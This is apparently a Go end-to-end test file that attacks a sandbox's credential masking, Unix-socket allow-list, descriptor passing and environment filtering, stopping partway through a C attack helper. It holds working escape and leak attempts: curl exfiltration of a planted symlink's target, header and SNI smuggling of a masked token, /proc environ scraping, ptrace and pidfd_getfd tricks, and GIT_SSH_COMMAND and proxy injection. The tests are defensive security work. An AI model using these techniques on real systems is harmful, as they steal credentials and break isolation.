//go:build linux

package e2e

// Review 12: a hostile review of issue 12 (credential masking) and issue
// 13 (allowUnixSockets, exposed ports, --pass-fd, the environment
// allow-list). Each test asserts what must hold; a test that fails is a
// leak, reproduced by the test itself.

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"

	"golang.org/x/sys/unix"
)

// recorder is a loopback HTTP(S) server that keeps every request it
// received (head and body, as received) and answers "ok NAME".
type recorder struct {
	name string
	port int
	mu   sync.Mutex
	seen bytes.Buffer
	// redirect, when set, answers /redir with a 307 to this URL.
	redirect string
	// echo answers with the request as received instead of "ok".
	echo bool
}

func startRecorder(t *testing.T, name string, cert *tls.Certificate) *recorder {
	t.Helper()
	rc := &recorder{name: name}
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		var b bytes.Buffer
		fmt.Fprintf(&b, "%s %s %s host=%s\n", rc.name, r.Method, r.RequestURI, r.Host)
		r.Header.Write(&b)
		r.Trailer.Write(&b)
		fmt.Fprintf(&b, "body=%q\n", body)
		rc.mu.Lock()
		rc.seen.Write(b.Bytes())
		rc.mu.Unlock()
		if r.URL.Path == "/redir" && rc.redirect != "" {
			http.Redirect(w, r, rc.redirect, http.StatusTemporaryRedirect)
			return
		}
		if rc.echo {
			w.Write(b.Bytes())
			return
		}
		fmt.Fprintf(w, "ok %s\n", rc.name)
	})
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	if cert != nil {
		ln = tls.NewListener(ln, &tls.Config{Certificates: []tls.Certificate{*cert}})
	}
	srv := &http.Server{Handler: h}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	rc.port = ln.Addr().(*net.TCPAddr).Port
	return rc
}

func (rc *recorder) got() string {
	rc.mu.Lock()
	defer rc.mu.Unlock()
	return rc.seen.String()
}

// otherRunner is a user other than w's runner: the unprivileged test user
// for root, root for the unprivileged user.
func otherRunner(t *testing.T, w *workspace) runner {
	for _, r := range runners(t) {
		if r.uid != w.r.uid {
			return r
		}
	}
	t.Skip("needs root and the unprivileged test user")
	return runner{}
}

// TestReview12MaskedFileSymlinkReadsAnotherUsersFile: a masked file's
// path lies in the writable working directory. A command that plants a
// symlink there (one run; the file did not exist, so nothing was masked)
// makes srt, in the next run, read the file the link names with srt's own
// privileges, bind a sentinel copy over it, and give the real content to
// srt-proxy as a mask's value: the command then sends the sentinel to an
// inject host and srt-proxy puts the other user's file on the wire. When
// srt runs as root the sandbox cannot read another user's 0600 file
// (capabilities dropped); srt can. Must hold: the file's content never
// reaches the upstream nor the command.
func TestReview12MaskedFileSymlinkReadsAnotherUsersFile(t *testing.T) {
	forEach(t, func(t *testing.T, w *workspace) {
		other := otherRunner(t, w)
		secret := fmt.Sprintf("OTHER-USERS-SECRET-%d", os.Getpid())
		dir := w.path("other")
		os.MkdirAll(dir, 0o755)
		target := filepath.Join(dir, "secret")
		if err := os.WriteFile(target, []byte(secret+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		os.Chown(target, other.uid, other.gid)
		up := startRecorder(t, "upstream", nil)
		up.echo = true
		s := `{"network":{"allowedDomains":["127.0.0.1:` + itoa(up.port) + `"],"deniedDomains":[]},` +
			`"filesystem":{"denyRead":[],"allowWrite":["."],"denyWrite":[]},` +
			`"credentials":{"allowPlaintextInject":true,"files":[{"path":"` + filepath.Join(w.dir, ".env") + `","mode":"mask"}]}}`
		// Run 1: .env does not exist (not masked: a warning); plant the link.
		r := w.srt("-s", w.settings(s), "-c", "cat "+target+" 2>&1; ln -s "+target+" .env && echo PLANTED")
		expect(t, r, 0, "PLANTED", "Permission denied", "!"+secret)
		// Run 2: send what the sandbox shows at the target to the inject host.
		r = w.srt("-s", w.settings(s), "-c", "cat "+target+" 2>&1; echo; curl -sS --noproxy '' --proxy \"$HTTP_PROXY\" --data-binary @"+target+" http://127.0.0.1:"+itoa(up.port)+"/exfil")
		if strings.Contains(up.got(), secret) || strings.Contains(r.stdout+r.stderr, secret) {
			t.Fatalf("LEAK: the other user's file %s reached the upstream through a planted masked-file symlink (srt as %s)\nupstream saw:\n%s\n%s", target, w.r.name, up.got(), r)
		}
	})
}

// masking is the setup of the host-switching attacks: TLS servers for
// inject.test (A) and other.test (B), plain ones (C for inject.test, D
// for other.test), and the settings masking MYTOKEN for inject.test only.
type masking struct {
	a, b, c, d *recorder
	ca         *testCA
	token      string
}

// maskHosts: main's (mask_helpers_test.go) names these hosts and more.

func startMasking(t *testing.T) *masking {
	m := &masking{ca: newTestCA(t, "review12 upstream CA", false), token: fmt.Sprintf("real-token-%d-XYZ", os.Getpid())}
	// each server holds a certificate for its own name only, as two
	// parties would
	ic, oc := m.ca.serverCert(t, "inject.test"), m.ca.serverCert(t, "other.test")
	m.a, m.b = startRecorder(t, "A-inject-tls", &ic), startRecorder(t, "B-other-tls", &oc)
	m.c, m.d = startRecorder(t, "C-inject-plain", nil), startRecorder(t, "D-other-plain", nil)
	m.a.redirect = "https://other.test:" + itoa(m.b.port) + "/after-redirect"
	m.c.redirect = "http://other.test:" + itoa(m.d.port) + "/after-redirect"
	return m
}

func (m *masking) settings(w *workspace) string {
	ca := w.write("review12-ca.pem", string(m.ca.certPEM))
	var allowed []string
	for _, rc := range []*recorder{m.a, m.b, m.c, m.d} {
		allowed = append(allowed, `"127.0.0.1:`+itoa(rc.port)+`"`)
	}
	return w.settings(`{"network":{"allowedDomains":["inject.test","other.test",` + strings.Join(allowed, ",") + `],"deniedDomains":[],` +
		`"tlsTerminate":{"extraCaCertPaths":["` + ca + `"]}},` +
		`"filesystem":{"denyRead":[],"allowWrite":["."],"denyWrite":[]},` +
		`"credentials":{"allowPlaintextInject":true,"envVars":[{"name":"MYTOKEN","mode":"mask","injectHosts":["inject.test"]}]}}`)
}

// maskAttacks is the Python run inside: each attack sends the sentinel
// (in X-Tok, and in bodies) on a path meant to end at other.test.
const maskAttacks = `
import ssl, sys
tok = os.environ["MYTOKEN"]
A, B, C, D = sys.argv[1:5]
ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
def req(host, path, extra="", method="GET", body=""):
    return "%s %s HTTP/1.1\r\nHost: %s\r\nX-Tok: %s\r\n%sContent-Length: %d\r\n\r\n%s" % (method, path, host, tok, extra, len(body), body)
def drain(t):
    t.settimeout(5); out = b""
    try:
        while True:
            b = t.recv(65536)
            if not b: break
            out += b
    except Exception as e:
        pass
    return out
def tunnel(name, target, sni, data):
    try:
        s, head = connect(target)
        if " 200" not in head.split("\r\n")[0]:
            print(name, "CONNECT", head.split("\r\n")[0]); return
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.sendall(data.encode())
        print(name, "answers", drain(t).count(b"HTTP/1.1 "))
    except Exception as e:
        print(name, "error", type(e).__name__, e)
last = "Connection: close\r\n"
# 1. plain: a request to other.test through a terminated tunnel
tunnel("direct-other", "other.test:" + B, "other.test", req("other.test:" + B, "/1", last))
# 2. Host header names the inject host, the tunnel goes to other.test
tunnel("host-mismatch", "other.test:" + B, "other.test", req("inject.test:" + A, "/2", last))
# 3. SNI names the inject host, the tunnel goes to other.test
tunnel("sni-mismatch", "other.test:" + B, "inject.test", req("inject.test", "/3", last))
# 4. absolute-form naming the inject host inside a tunnel to other.test
tunnel("absolute-form", "other.test:" + B, "other.test", req("inject.test:" + A, "https://inject.test:" + A + "/4", last))
# 5. pipelined keep-alive in a tunnel to other.test, bodies too (POST, chunked with a trailer, Expect)
chunked = "POST /5c HTTP/1.1\r\nHost: inject.test\r\nTransfer-Encoding: chunked\r\nX-Tok: %s\r\n\r\n%x\r\n%s\r\n0\r\nX-Trailer: %s\r\n\r\n" % (tok, len(tok), tok, tok)
expect = "POST /5e HTTP/1.1\r\nHost: inject.test\r\nExpect: 100-continue\r\nContent-Length: %d\r\n\r\n%s" % (len(tok), tok)
tunnel("pipelined-other", "other.test:" + B, "other.test", req("other.test", "/5a") + req("inject.test", "/5b", method="POST", body=tok) + chunked + expect + req("inject.test", "/5z", last))
# 6. split sentinel across header lines (obs-fold) and a second X-Tok line
fold = "GET /6 HTTP/1.1\r\nHost: other.test\r\nX-Fold: %s\r\n %s\r\nX-Tok: %s\r\n%s\r\n" % (tok[:20], tok[20:], tok, last)
tunnel("folded", "other.test:" + B, "other.test", fold)
# 7. the inject host's tunnel, then other.test's Host on it: stays at A
tunnel("inject-then-other-host", "inject.test:" + A, "inject.test", req("inject.test", "/7a") + req("other.test:" + B, "/7b", last))
# 8. plain HTTP through the proxy, keep-alive on one connection, switching hosts (plaintext inject is on)
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
pa = "Proxy-Authorization: %s\r\n" % auth
s.sendall((req("inject.test:" + C, "http://inject.test:" + C + "/8a", pa) + req("other.test:" + D, "http://other.test:" + D + "/8b", pa) +
           req("inject.test:" + C, "http://inject.test:" + C + "/8c", pa) + req("inject.test:" + C, "http://other.test:" + D + "/8d", pa + last)).encode())
print("plain-keepalive answers", drain(s).count(b"HTTP/1.1 "))
# 9. captured (no proxy variables): TLS straight to other.test with the inject host as SNI
try:
    raw = socket.create_connection(("other.test", int(B)), timeout=10)
    t = ctx.wrap_socket(raw, server_hostname="inject.test")
    t.sendall(req("inject.test", "/9", last).encode()); print("captured-sni answers", drain(t).count(b"HTTP/1.1 "))
except Exception as e:
    print("captured-sni error", type(e).__name__, e)
`

// TestReview12MaskInjectOnlyToInjectHosts: a masked MYTOKEN whose
// injectHosts is inject.test. Every attempt to have srt-proxy put the real
// value into a request that ends at other.test — Host header, SNI and
// absolute-form naming inject.test inside a tunnel to other.test,
// pipelined and keep-alive requests switching hosts (terminated and plain
// HTTP), bodies (Content-Length, chunked with a trailer, Expect:
// 100-continue), a folded header, a redirect from the inject host, a
// captured connection with the inject host as SNI — must leave
// other.test with the sentinel only. The inject host receiving the real
// value is the control (else nothing was tested). Run with -d: no line
// srt writes holds the real value.
func TestReview12MaskInjectOnlyToInjectHosts(t *testing.T) {
	m := startMasking(t)
	forEach(t, func(t *testing.T, w *workspace) {
		s := m.settings(w)
		env := []string{"MYTOKEN=" + m.token}
		ports := itoa(m.a.port) + " " + itoa(m.b.port) + " " + itoa(m.c.port) + " " + itoa(m.d.port)
		script := `echo "inside=$MYTOKEN"; ` + py(maskAttacks) + " " + ports + `; ` +
			// 10. redirects from the inject host to other.test, the header re-sent by curl
			`curl -sS -L -H "X-Tok: $MYTOKEN" https://inject.test:` + itoa(m.a.port) + `/redir; ` +
			`curl -sS -L --location-trusted -H "X-Tok: $MYTOKEN" --proxy "$HTTP_PROXY" --noproxy '' http://inject.test:` + itoa(m.c.port) + `/redir; ` +
			// 11. the token in the query to the inject host: never in the request-target
			`curl -sS "https://inject.test:` + itoa(m.a.port) + `/q?t=$MYTOKEN" -H "X-Tok: $MYTOKEN"`
		r := w.withHostsBin(maskHosts, filepath.Join(bin, "srt"), env, "-d", "-s", s, "-c", script)
		t.Logf("%s", r)
		if !strings.Contains(r.stdout, "inside=fake_value_") {
			t.Fatalf("the command does not see a sentinel:\n%s", r)
		}
		// control: the inject host got the real value, so injection works here
		if !strings.Contains(m.a.got(), m.token) || !strings.Contains(m.c.got(), m.token) {
			t.Fatalf("the control failed: the inject host did not receive the real value\nA:\n%s\nC:\n%s\n%s", m.a.got(), m.c.got(), r)
		}
		for _, rc := range []*recorder{m.b, m.d} {
			if strings.Contains(rc.got(), m.token) {
				t.Errorf("LEAK: %s (not an inject host) received the real value:\n%s", rc.name, rc.got())
			}
			if !strings.Contains(rc.got(), "fake_value_") {
				t.Errorf("%s received no sentinel at all (the attacks did not reach it):\n%s\n%s", rc.name, rc.got(), r)
			}
		}
		if strings.Contains(m.a.got(), "/q?t="+m.token) {
			t.Errorf("the real value went into a request-target:\n%s", m.a.got())
		}
		if strings.Contains(r.stdout+r.stderr, m.token) {
			t.Errorf("LEAK: the real value is in srt's output (-d):\n%s", r)
		}
	})
}

// TestReview12WeakerSandboxEnviron: under enableWeakerNestedSandbox the
// host's /proc is visible. The real value of a masked variable is in the
// environment of srt and of the process that started it; neither may be
// readable from inside.
func TestReview12WeakerSandboxEnviron(t *testing.T) {
	forEach(t, func(t *testing.T, w *workspace) {
		token := fmt.Sprintf("weaker-real-%d-token", os.Getpid())
		s := w.settings(`{"network":{"allowedDomains":["example.com"],"deniedDomains":[]},"filesystem":{"denyRead":[],"allowWrite":["."],"denyWrite":[]},` +
			`"enableWeakerNestedSandbox":true,"credentials":{"allowPlaintextInject":true,"envVars":[{"name":"MYTOKEN","mode":"mask"}]}}`)
		inner := `for p in /proc/[0-9]*; do cat $p/environ 2>/dev/null; done | tr '\0' '\n' | grep -c '` + token + `' | sed 's/^/count=/'; echo "inside=$MYTOKEN"`
		// the parent keeps MYTOKEN in its own environment, as an agent host does
		cmd := w.hostCmd([]string{"MYTOKEN=" + token}, "/bin/sh", "-c", `"$0" -s "$1" -c "$2" 2>&1 | cat; echo parent-done`, filepath.Join(bin, "srt"), s, inner)
		out, _ := cmd.CombinedOutput()
		if !strings.Contains(string(out), "inside=fake_value_") || !strings.Contains(string(out), "parent-done") {
			t.Fatalf("did not run as planned:\n%s", out)
		}
		if !strings.Contains(string(out), "count=0\n") {
			t.Fatalf("LEAK: the real value is readable through the host's /proc:\n%s", out)
		}
	})
}

// attackBin compiles the C attack helper (syscalls Python cannot make)
// into a directory every runner can read.
func attackBin(t *testing.T) string {
	t.Helper()
	if _, err := exec.LookPath("gcc"); err != nil {
		t.Skip("gcc is needed for the attack helper")
	}
	dir, err := os.MkdirTemp("", "srt-review12-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	os.Chmod(dir, 0o755)
	src := filepath.Join(dir, "attack.c")
	if err := os.WriteFile(src, []byte(attackC), 0o644); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "attack")
	if b, err := exec.Command("gcc", "-O1", "-pthread", "-o", out, src).CombinedOutput(); err != nil {
		t.Fatalf("gcc: %v\n%s", err, b)
	}
	return out
}

// TestReview12UnixSocketsSyscalls: the supervisor against calls made
// below Python: sendmmsg with an allowed and a forbidden address (each
// order), a thread flipping the address buffer between them during
// connect (3000 times), connect through the i386 ABI (int 0x80:
// socketcall and connect), io_uring, the init stage attacked directly
// (ptrace, process_vm_readv/writev, pidfd_getfd of PID 1), and a
// non-dumpable command. The forbidden sockets must never be reached.
func TestReview12UnixSocketsSyscalls(t *testing.T) {
	attack := attackBin(t)
	forEach(t, func(t *testing.T, w *workspace) {
		socks := w.mkdir("socks")
		a, b := filepath.Join(socks, "a.sock"), filepath.Join(socks, "b.sock")
		ad, bd := filepath.Join(socks, "ad.sock"), filepath.Join(socks, "bd.sock")
		got := w.startUnixServer("s="+a, "s="+b, "d="+ad, "d="+bd)
		s := unixSettings(writeCwd, a, ad)
		steps := []string{
			attack + " sendmmsg " + ad + " " + bd,
			attack + " race " + a + " " + b,
			attack + " iouring",
			attack + " init",
			attack + " nodump " + b,
		}
		want := []string{"IOURING ret=-1"}
		if hostInt80(t) {
			steps = append(steps, attack+" int80 "+b)
			want = append(want, "INT80-SOCKETCALL REFUSED errno=38", "INT80-CONNECT REFUSED errno=38")
		}
		r := w.srt("-s", w.settings(s), "-c", strings.Join(steps, "; "))
		expect(t, r, 0, append(want,
			"SENDMMSG n=1 errno=0", "SENDMMSG-REV n=-1 errno=13",
			"RACE ok=1 refused=1 forbidden=0",
			"PTRACE-ATTACH ret=-1 errno=1", "PTRACE-SEIZE ret=-1 errno=1",
			"VM-READV ret=-1 errno=1", "VM-WRITEV ret=-1 errno=1", "PIDFD-GETFD",
			"NODUMP REFUSED",
			"!hello from "+b)...)
		if strings.Contains(r.stdout, "PIDFD-GETFD pidfd=") && !strings.Contains(r.stdout, "ret=-1 errno=1\n") {
			t.Fatalf("pidfd_getfd on the init stage succeeded:\n%s", r)
		}
		if o := got(); strings.Contains(o, bd) || !strings.Contains(o, "dgram "+ad+" mm-allowed") {
			t.Fatalf("the datagram sockets received:\n%s\nwant only %s", o, ad)
		}
	})
}

// TestReview12UnixSocketsProcFdAndRename: a forbidden host socket reached
// through an O_PATH descriptor's /proc/self/fd and /proc/PID/fd names
// (the supervisor resolves them as itself), and a listed socket FILE
// (not a directory) in a directory the command may write: the command
// renames another host socket of a writable directory over the listed
// name. docs/security.md names this for a listed directory only.
func TestReview12UnixSocketsProcFdAndRename(t *testing.T) {
	forEach(t, func(t *testing.T, w *workspace) {
		w.mkdir("home/proj/agent")
		w.mkdir("home/proj/priv")
		socks := w.mkdir("socks")
		a, b := filepath.Join(socks, "a.sock"), filepath.Join(socks, "b.sock")
		listed := filepath.Join(w.dir, "agent", "agent.sock")
		priv := filepath.Join(w.dir, "priv", "priv.sock")
		w.startUnixServer("s="+a, "s="+b, "s="+listed, "s="+priv)
		w.write("home/proj/procfd.py", `
import os, socket, sys
fd = os.open(sys.argv[1], os.O_PATH)
for p in ("/proc/self/fd/%d" % fd, "/proc/%d/fd/%d" % (os.getpid(), fd), "/dev/fd/%d" % fd):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(p); print("CONNECTED", p, s.recv(100).decode().strip())
    except OSError as e:
        print("REFUSED", p, e.errno)
`)
		s := unixSettings(writeCwd, a, listed)
		r := w.srt("-s", w.settings(s), "-c", "python3 procfd.py "+b)
		expect(t, r, 0, "REFUSED /proc/self/fd/", "!hello from "+b)
		r = w.srt("-s", w.settings(s), "-c", "python3 "+filepath.Join(w.dir, "procfd.py")+" "+a)
		t.Logf("allowed socket through /proc names (either outcome holds):\n%s", r)

		r = w.srt("-s", w.settings(s), "--show-violations", "-c",
			"mv priv/priv.sock agent/agent.sock && echo MOVED; python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"agent/agent.sock\"); print(\"REACHED\", s.recv(100).decode().strip())'")
		if strings.Contains(r.stdout, "hello from "+priv) {
			t.Fatalf("LEAK: a listed socket file in a writable directory: the command renamed the host socket %s over it and reached it:\n%s", priv, r)
		}
	})
}

// TestReview12PassFD: descriptors that lead further than they seem.
//   - an O_PATH descriptor of a denyRead file, mode 0400 (a key.pem):
//     F_GETFL says O_RDONLY, so srt checks only that it cannot be
//     reopened for writing; /proc/self/fd/3 reopens it for reading;
//   - a pidfd of a host process: pidfd_getfd would take its descriptors;
//   - a UDP socket and a netlink socket of the host's network namespace;
//   - a memfd opened read-only, and a directory as O_PATH.
func TestReview12PassFD(t *testing.T) {
	forEach(t, func(t *testing.T, w *workspace) {
		secret := fmt.Sprintf("PEM-SECRET-%d", os.Getpid())
		key := w.write("home/keys/key.pem", secret+"\n")
		os.Chmod(key, 0o400)
		s := w.settings(`{"network":{"allowedDomains":[],"deniedDomains":[]},"filesystem":{"denyRead":["` + filepath.Dir(key) + `"],"allowWrite":["."],"denyWrite":[]}}`)
		run := func(f *os.File, command string) result {
			t.Helper()
			cmd := w.command(nil, "--pass-fd", "3", "-s", s, "-c", command)
			cmd.ExtraFiles = []*os.File{f}
			return w.run(cmd)
		}
		// control: the file is hidden by name
		expect(t, w.srt("-s", s, "-c", "cat "+key+" 2>&1; true"), 0, "!"+secret)

		fd, err := unix.Open(key, unix.O_PATH, 0)
		if err != nil {
			t.Fatal(err)
		}
		f := os.NewFile(uintptr(fd), "opath")
		r := run(f, "cat /proc/self/fd/3 2>&1; echo cat=$?")
		f.Close()
		if strings.Contains(r.stdout, secret) {
			t.Errorf("LEAK: an O_PATH descriptor of a denyRead file, reopened through /proc/self/fd/3, reads it:\n%s", r)
		}

		// a pidfd of a host process of the runner holding a descriptor of the key
		holder := w.hostCmd(nil, "/bin/sh", "-c", "exec 7<"+key+"; sleep 30")
		if err := holder.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { holder.Process.Kill(); holder.Wait() })
		pfd, err := unix.PidfdOpen(holder.Process.Pid, 0)
		if err != nil {
			t.Fatal(err)
		}
		pf := os.NewFile(uintptr(pfd), "pidfd")
		r = run(pf, `python3 -c '
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.syscall(438, 3, 7, 0)
print("GETFD", fd, ctypes.get_errno())
if fd >= 0: print("READ", os.read(fd, 100))
'`)
		pf.Close()
		if strings.Contains(r.stdout, secret) {
			t.Errorf("LEAK: pidfd_getfd through a passed pidfd took a host process's descriptor:\n%s", r)
		}
		t.Logf("pidfd: %s", r)

		for _, c := range []struct {
			name          string
			domain, typ   int
			proto         int
			wantFragments []string
		}{
			{"udp", unix.AF_INET, unix.SOCK_DGRAM, 0, []string{"descriptor 3 (--pass-fd 3) is a"}},
			{"netlink", unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_ROUTE, []string{"descriptor 3 (--pass-fd 3) is a"}},
		} {
			sfd, err := unix.Socket(c.domain, c.typ, c.proto)
			if err != nil {
				t.Fatal(err)
			}
			sf := os.NewFile(uintptr(sfd), c.name)
			r = run(sf, "echo RAN")
			sf.Close()
			// The init stage refuses it (exit 125 documented); srt then
			// panics reading the channel (exit 2): a bug, not a leak.
			if strings.Contains(r.stderr, "panic:") {
				t.Errorf("srt panics after the init stage refused a passed %s socket (want exit 125):\n%s", c.name, r)
			}
			for _, f := range append(c.wantFragments, "!RAN") {
				if neg, ok := strings.CutPrefix(f, "!"); ok && strings.Contains(r.stdout, neg) || !ok && !strings.Contains(r.stderr, f) {
					t.Fatalf("a passed %s socket of the host's network was not refused as expected (%q):\n%s", c.name, f, r)
				}
			}
		}

		mfd, err := unix.MemfdCreate("review12", 0)
		if err != nil {
			t.Fatal(err)
		}
		unix.Write(mfd, []byte("memfd\n"))
		ro, err := os.Open(fmt.Sprintf("/proc/self/fd/%d", mfd))
		unix.Close(mfd)
		if err != nil {
			t.Fatal(err)
		}
		r = run(ro, "echo changed > /proc/self/fd/3 && echo WROTE; cat <&3")
		ro.Close()
		if strings.Contains(r.stdout, "WROTE") {
			t.Errorf("a read-only memfd was opened again for writing inside:\n%s", r)
		}

		dfd, err := unix.Open(filepath.Dir(key), unix.O_PATH|unix.O_DIRECTORY, 0)
		if err != nil {
			t.Fatal(err)
		}
		df := os.NewFile(uintptr(dfd), "dir")
		r = run(df, "cat /proc/self/fd/3/key.pem; echo RAN")
		df.Close()
		expect(t, r, 125, "is a directory", "!"+secret, "!RAN")
	})
}

// TestReview12EnvAllowList: the environment allow-list cannot bring the
// caller's proxy variables past srt's own, nor a second copy of a masked
// variable past its mask (an environment with the name twice, which
// execve allows and os/exec would merge).
func TestReview12EnvAllowList(t *testing.T) {
	forEach(t, func(t *testing.T, w *workspace) {
		s := w.settings(`{"network":{"allowedDomains":["example.com"],"deniedDomains":[]},"filesystem":{"denyRead":[],"allowWrite":["."],"denyWrite":[]},` +
			`"environment":{"allow":["PATH","HOME","HTTP_*","HTTPS_*","http_*","https_*","NO_*","no_*","ALL_*","all_*","MYTOKEN","GIT_*"]},` +
			`"credentials":{"allowPlaintextInject":true,"envVars":[{"name":"MYTOKEN","mode":"mask"}]}}`)
		env := append(w.env(), "HTTP_PROXY=http://evil.invalid:1", "https_proxy=http://evil.invalid:1", "NO_PROXY=*", "no_proxy=*",
			"ALL_PROXY=socks5://evil.invalid:1", "MYTOKEN=first-real-value-111", "GIT_SSH_COMMAND=touch "+w.path("pwned"), "MYTOKEN=second-real-value-222")
		var out bytes.Buffer
		attr := &os.ProcAttr{Dir: w.dir, Env: env, Files: []*os.File{nil, nil, nil}}
		rp, wp, _ := os.Pipe()
		attr.Files = []*os.File{nil, wp, wp}
		if os.Geteuid() == 0 && w.r.uid != 0 {
			attr.Sys = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(w.r.uid), Gid: uint32(w.r.gid), Groups: []uint32{}}}
		}
		p, err := os.StartProcess(filepath.Join(bin, "srt"), []string{"srt", "-s", s, "-c",
			`env | grep -E "^(HTTP_PROXY|https_proxy|NO_PROXY|no_proxy|ALL_PROXY|MYTOKEN|GIT_SSH_COMMAND)="; curl -s -o /dev/null -w "code=%{http_code}\n" http://denied.invalid/`}, attr)
		if err != nil {
			t.Fatal(err)
		}
		wp.Close()
		io.Copy(&out, rp)
		p.Wait()
		o := out.String()
		for _, bad := range []string{"first-real-value-111", "second-real-value-222", "evil.invalid", "NO_PROXY=*\n", "no_proxy=*\n", "touch " + w.path("pwned")} {
			if strings.Contains(o, bad) {
				t.Errorf("LEAK: %q reached the command past srt's own:\n%s", bad, o)
			}
		}
		if !strings.Contains(o, "MYTOKEN=fake_value_") || !strings.Contains(o, "code=403") {
			t.Fatalf("did not run as planned:\n%s", o)
		}
	})
}

// TestReview12ExposeHostV6Taken: a host service listens on [::1]:P only;
// the sandbox exposes P. srt must refuse (the port is in use on this
// host's loopback) rather than take 127.0.0.1:P beside it, and the
// host's service stays.
func TestReview12ExposeHostV6Taken(t *testing.T) {
	skipOnLandlock(t)
	forEach(t, func(t *testing.T, w *workspace) {
		ln, err := net.Listen("tcp6", "[::1]:0")
		if err != nil {
			t.Skip("no ::1 on this host")
		}
		defer ln.Close()
		port := ln.Addr().(*net.TCPAddr).Port
		go http.Serve(ln, http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) { fmt.Fprintln(rw, "host service") }))
		s := `{"network":{"allowedDomains":[],"deniedDomains":[],"exposeLoopbackPorts":[` + itoa(port) + `]},"filesystem":{"denyRead":[],"allowWrite":["."],"denyWrite":[]}}`
		r := w.srt("-s", w.settings(s), "-c", "echo RAN")
		expect(t, r, 1, "network.exposeLoopbackPorts: port "+itoa(port)+" is in use on this host's loopback ([::1]:"+itoa(port)+")", "!RAN")
		body, err := httpGet("http://[::1]:" + itoa(port) + "/")
		if !strings.Contains(body, "host service") {
			t.Fatalf("the host's service on [::1]:%d is gone: %q %v", port, body, errString(err))
		}
	})
}

// attackC is the C attack helper's source (see attackBin).
const attackC = `
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

static void addr(struct sockaddr_un *a, const char *p) {
	memset(a, 0, sizeof *a);
	a->sun_family = AF_UNIX;
	strncpy(a->sun_path, p, sizeof a->sun_path - 1);
}

static void reach(const char *tag, int s, int rc) {
	char buf[200] = {0};
	if (rc == 0) {
		int n = read(s, buf, sizeof buf - 1);
		if (n > 0 && buf[n - 1] == '\n') buf[n - 1] = 0;
		printf("%s CONNECTED %s\n", tag, buf);
	} else {
		printf("%s REFUSED errno=%d\n", tag, errno);
	}
	fflush(stdout);
}

static volatile int stop;
static struct sockaddr_un shared;
static const char *pa, *pb;
static void *flip(void *x) {
	(void)x;
	for (unsigned i = 0; !stop; i++) strcpy(shared.sun_path, (i & 1) ? pa : pb);
	return 0;
}

int main(int argc, char **argv) {
	if (argc < 2) return 2;
	const char *mode = argv[1];
	if (!strcmp(mode, "sendmmsg")) {
		int s = socket(AF_UNIX, SOCK_DGRAM, 0);
		struct sockaddr_un a[2];
		addr(&a[0], argv[2]);
		addr(&a[1], argv[3]);
		char d0[] = "mm-allowed", d1[] = "mm-forbidden";
		struct iovec iv[2] = {{d0, strlen(d0)}, {d1, strlen(d1)}};
		struct mmsghdr m[2];
		memset(m, 0, sizeof m);
		for (int i = 0; i < 2; i++) {
			m[i].msg_hdr.msg_name = &a[i];
			m[i].msg_hdr.msg_namelen = sizeof a[i];
			m[i].msg_hdr.msg_iov = &iv[i];
			m[i].msg_hdr.msg_iovlen = 1;
		}
		int n = sendmmsg(s, m, 2, 0);
		printf("SENDMMSG n=%d errno=%d\n", n, n < 0 ? errno : 0);
		struct mmsghdr r[2] = {m[1], m[0]};
		n = sendmmsg(s, r, 2, 0);
		printf("SENDMMSG-REV n=%d errno=%d\n", n, n < 0 ? errno : 0);
		return 0;
	}
	if (!strcmp(mode, "race")) {
		pa = argv[2];
		pb = argv[3];
		addr(&shared, pa);
		pthread_t t;
		pthread_create(&t, 0, flip, 0);
		int ok = 0, refused = 0, forbidden = 0;
		for (int i = 0; i < 3000; i++) {
			int s = socket(AF_UNIX, SOCK_STREAM, 0);
			if (connect(s, (struct sockaddr *)&shared, sizeof shared) == 0) {
				char buf[200] = {0};
				read(s, buf, sizeof buf - 1);
				if (strstr(buf, pb)) forbidden++;
				else ok++;
			} else refused++;
			close(s);
		}
		stop = 1;
		pthread_join(t, 0);
		printf("RACE ok=%d refused=%d forbidden=%d\n", ok > 0, refused > 0, forbidden);
		return 0;
	}
	if (!strcmp(mode, "int80")) {
		unsigned long *mem = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
		if (mem == MAP_FAILED) { printf("INT80 nomem\n"); return 0; }
		int s = socket(AF_UNIX, SOCK_STREAM, 0);
		struct sockaddr_un *a = (struct sockaddr_un *)((char *)mem + 512);
		addr(a, argv[2]);
		unsigned int *args = (unsigned int *)mem;
		args[0] = s;
		args[1] = (unsigned int)(unsigned long)a;
		args[2] = sizeof *a;
		long ret;
		__asm__ volatile("int $0x80" : "=a"(ret) : "a"(102), "b"(3), "c"((unsigned int)(unsigned long)args) : "memory");
		if (ret < 0) errno = -ret;
		reach("INT80-SOCKETCALL", s, ret < 0 ? -1 : 0);
		int s2 = socket(AF_UNIX, SOCK_STREAM, 0);
		__asm__ volatile("int $0x80" : "=a"(ret) : "a"(362), "b"(s2), "c"((unsigned int)(unsigned long)a), "d"(sizeof *a) : "memory");
		if (ret < 0) errno = -ret;
